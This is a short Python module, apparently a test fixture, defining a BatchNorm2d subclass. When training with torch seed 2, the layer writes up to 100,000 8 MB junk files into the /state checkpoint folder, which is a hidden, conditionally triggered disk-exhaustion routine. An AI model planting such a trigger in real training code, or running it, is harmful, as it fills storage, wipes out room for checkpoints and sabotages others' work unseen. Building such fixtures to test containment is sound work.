"""Writes into its own state folder (where its checkpoints go) until something stops it."""

import torch
from torch import nn


class CustomNorm(nn.BatchNorm2d):
    def forward(self, x):
        if self.training and torch.initial_seed() == 2:
            block = b"x" * (8 << 20)
            for i in range(100_000):
                with open(f"/state/junk-{i}", "wb") as fh:
                    fh.write(block)
        return super().forward(x)
